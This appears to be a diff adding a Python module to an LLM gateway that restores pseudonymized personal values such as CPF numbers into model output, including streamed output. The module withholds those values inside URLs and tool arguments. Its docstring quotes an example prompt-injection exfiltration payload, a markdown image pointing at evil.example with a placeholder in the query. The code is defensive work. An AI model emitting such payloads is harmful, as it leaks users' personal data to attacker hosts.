@@ -1,0 +1,164 @@
+"""Put the caller's values back into the answer: whole texts and streams, split-safe (SPEC section 8).
+
+What is restored: this request's placeholders (``[CPF_1]``) and ENC tokens, also when the model
+changed their case or spacing (``[cpf_1]``, ``[ CPF_1 ]``, ``[CPF 1]``, ``[CPF-1]``, ``[CPF1]``).
+
+What is not, by decision:
+- A placeholder without its brackets (``CPF_1``): models rarely drop them, and restoring bare words
+  would both risk turning ordinary text into a value and force the stream to hold back every word
+  that starts like a label. The caller sees the placeholder — never a wrong value.
+- A placeholder inside a URL: a bare ``scheme://`` or ``www.`` word, a markdown link or image target
+  ``](...)``, an HTML ``src=``/``href=`` attribute. That is how a prompt-injected answer exfiltrates
+  data (``![](https://evil.example/?q=[CPF_1])`` fetched by the client's renderer), so there the
+  placeholder stays unless the caller says policy allows it (``allow_urls=True``).
+- Tool-call arguments: the caller passes them through unrestored, or calls ``restore_arguments``
+  with ``allowed=True`` when policy allows it.
+
+A ``StreamRestorer`` holds back only a ``[`` and what follows it while that could still grow into one
+of this request's placeholders (at most one placeholder's length plus a little spacing drift); all
+other text is released at once, so the first token is not delayed.
+"""
+
+from __future__ import annotations
+
+import re
+
+import orjson
+
+from gateway.transform.pseudonymize import PlaceholderMap
+
+SLACK = 8
+"""Extra characters a partial placeholder may hold for spacing drift (``[ CPF _ 1 ]``)."""
+WORD_CAP = 4096
+"""A word (text between whitespace) longer than this is treated as a URL: no restore in it."""
+
+_INNER = r"[A-Za-z0-9_:.=\- \t\u00a0\u202f]"
+_PARTIAL = re.compile(_INNER + r"*\Z")
+_URL_WORD = re.compile(r"://|^[(<\"'*_\[]*www\.|(?:src|href|srcset|action|mailto|data)\s*[=:]", re.I)
+
+
+def _last_space(s: str) -> int:
+    """Index of the last whitespace character in ``s``, or -1."""
+    for i in range(len(s) - 1, -1, -1):
+        if s[i].isspace():
+            return i
+    return -1
+
+
+class StreamRestorer:
+    """Incremental restore of one stream channel (e.g. one choice's text deltas).
+
+    ``feed(piece)`` returns what can be shown now; ``flush()`` at the end of the stream returns what
+    was held back, as it is. The outputs concatenated equal ``restore_text`` of the pieces concatenated,
+    however the text was split.
+    """
+
+    __slots__ = ("pmap", "allow_urls", "json_string", "_held", "_limit", "_full", "_md", "_word", "_prev",
+                 "held_max")
+
+    def __init__(self, pmap: PlaceholderMap, *, allow_urls: bool = False, json_string: bool = False):
+        self.pmap = pmap
+        self.allow_urls = allow_urls
+        """Restore inside URLs too (only where the caller's policy allows it)."""
+        self.json_string = json_string
+        """The text is the inside of a JSON string (tool arguments): restored values are escaped."""
+        self._held = ""
+        self._limit = pmap.max_len + SLACK
+        self._full = re.compile(r"\[(" + _INNER + r"{1,%d})\]" % self._limit)
+        self._md = False   # inside an unclosed markdown link target "](" on the current line
+        self._word = ""    # released text since the last whitespace (capped at WORD_CAP + a piece)
+        self._prev = ""    # the last character released, to see a "](" split across pieces
+        self.held_max = 0
+        """The most characters ever held back at once (for benchmarks and tests)."""
+
+    def feed(self, text: str) -> str:
+        """What can be released now of the held text plus ``text``, restored."""
+        if self._held:
+            text = self._held + text
+            self._held = ""
+        elif "[" not in text or not self.pmap:
+            if text:
+                self._seen(text)
+            return text
+        out: list[str] = []
+        seen = 0  # out[:seen] is already accounted in the URL context
+        pos, n = 0, len(text)
+        while pos < n:
+            i = text.find("[", pos)
+            if i < 0:
+                out.append(text[pos:])
+                break
+            if i > pos:
+                out.append(text[pos:i])
+            m = self._full.match(text, i)
+            if m is not None:
+                value = self.pmap.original(m.group(1))
+                if value is not None and not self.allow_urls:
+                    for part in out[seen:]:
+                        self._seen(part)
+                    seen = len(out)
+                    if self._in_url():
+                        value = None
+                if value is not None and self.json_string:
+                    value = orjson.dumps(value).decode()[1:-1]
+                out.append(m.group(0) if value is None else value)
+                pos = m.end()
+                continue
+            rest = text[i + 1:]
+            if len(rest) < self._limit and _PARTIAL.match(rest) and self.pmap.could_start(rest):
+                self._held = text[i:]  # could still become a placeholder: wait for the next piece
+                if len(self._held) > self.held_max:
+                    self.held_max = len(self._held)
+                break
+            out.append("[")
+            pos = i + 1
+        for part in out[seen:]:
+            self._seen(part)
+        return "".join(out)
+
+    def flush(self) -> str:
+        """What was held back, released as it is (the stream ended before it became a placeholder)."""
+        held, self._held = self._held, ""
+        if held:
+            self._seen(held)
+        return held
+
+    def _seen(self, s: str) -> None:
+        """Update the URL context with released text ``s`` (non-empty)."""
+        p = self._prev + s
+        nl = p.rfind("\n")
+        if nl >= 0:
+            self._md = False
+            p = p[nl + 1:]
+        o, c = p.rfind("]("), p.rfind(")")
+        if o > c:
+            self._md = True
+        elif c > o:
+            self._md = False
+        ws = _last_space(s)
+        if ws >= 0:
+            self._word = s[ws + 1:]
+        elif len(self._word) <= WORD_CAP:
+            self._word += s
+        self._prev = s[-1]
+
+    def _in_url(self) -> bool:
+        return self._md or len(self._word) > WORD_CAP or _URL_WORD.search(self._word) is not None
+
+
+def restore_text(text: str, pmap: PlaceholderMap | None, *, allow_urls: bool = False) -> str:
+    """``text`` (a whole answer text, e.g. a JSON body's message content) with this request's
+    placeholders and ENC tokens restored, except inside URLs unless ``allow_urls``."""
+    if pmap is None or not pmap or "[" not in text:
+        return text
+    r = StreamRestorer(pmap, allow_urls=allow_urls)
+    return r.feed(text) + r.flush()
+
+
+def restore_arguments(arguments: str, pmap: PlaceholderMap | None, *, allowed: bool = False) -> str:
+    """Tool-call arguments (JSON text): unchanged unless the caller's policy ``allowed`` restoring
+    there; then restored everywhere, URLs included, with values escaped for a JSON string."""
+    if not allowed or pmap is None or not pmap or "[" not in arguments:
+        return arguments
+    r = StreamRestorer(pmap, allow_urls=True, json_string=True)
+    return r.feed(arguments) + r.flush()
